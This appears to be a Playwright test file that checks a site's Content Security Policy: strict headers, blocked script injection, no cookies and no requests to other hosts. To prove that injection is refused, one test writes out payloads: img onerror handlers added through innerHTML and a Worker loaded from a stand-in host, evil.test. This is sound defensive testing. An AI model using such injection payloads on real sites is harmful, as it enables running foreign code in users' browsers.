/** The policy is sent and works: our own script runs, a foreign one doesn't; no cookies, no other hosts. */
import { API, expect, GUIDE, test, wakeApp } from './site.support.ts';

test('every response carries the policy, also for an address that does not exist', async ({ request }) => {
  for (const path of [GUIDE, `${API}/nowhere`, `${GUIDE}.md`]) {
    const policy = (await request.get(path)).headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toContain('unsafe');
  }
});

test('a script that somebody brings in does not run', async ({ page, pageErrors }) => {
  await page.goto(GUIDE);
  const refused = await page.evaluate(() => {
    const code = 'document.documentElement.dataset.foreign = "ran"';
    const script = document.createElement('script');
    const image = document.createElement('img');
    const attempts = [
      () => script.append(code),
      () => {
        script.textContent = code;
      },
      () => image.setAttribute('onerror', code),
      () => {
        document.body.innerHTML += `<img src=x onerror='${code}'>`;
      },
      () => new Worker('https://evil.test/worker.js'),
      () => new Worker('data:text/javascript,close()'),
    ];
    const results = attempts.map((attempt) => {
      try {
        attempt();
        return 'done';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    });
    document.body.append(script, image);
    image.src = '/nothing.png';
    return results;
  });
  // Trusted Types keep text from becoming a script; the policy stops what gets past them.
  expect(refused.slice(1)).toEqual(['refused', 'refused', 'refused', 'refused', 'refused']);
  await page.waitForLoadState('networkidle');
  await expect(page.locator('html')).not.toHaveAttribute('data-foreign');
  pageErrors.length = 0;
});

test('a visit with a search and a move sets no cookie and asks no other host', async ({
  page,
  baseURL,
  context,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).origin));
  await page.goto(`${API}/`);
  await wakeApp(page);
  await page.keyboard.press('Control+k');
  await page.keyboard.type('add order');
  await page.goto(GUIDE);
  await wakeApp(page);
  await page.locator('main').getByRole('link', { name: /^Next/ }).click();
  await expect(page).not.toHaveURL(new RegExp(`${GUIDE}$`));
  expect(new Set(asked)).toEqual(new Set([baseURL]));
  expect(await context.cookies()).toEqual([]);
});
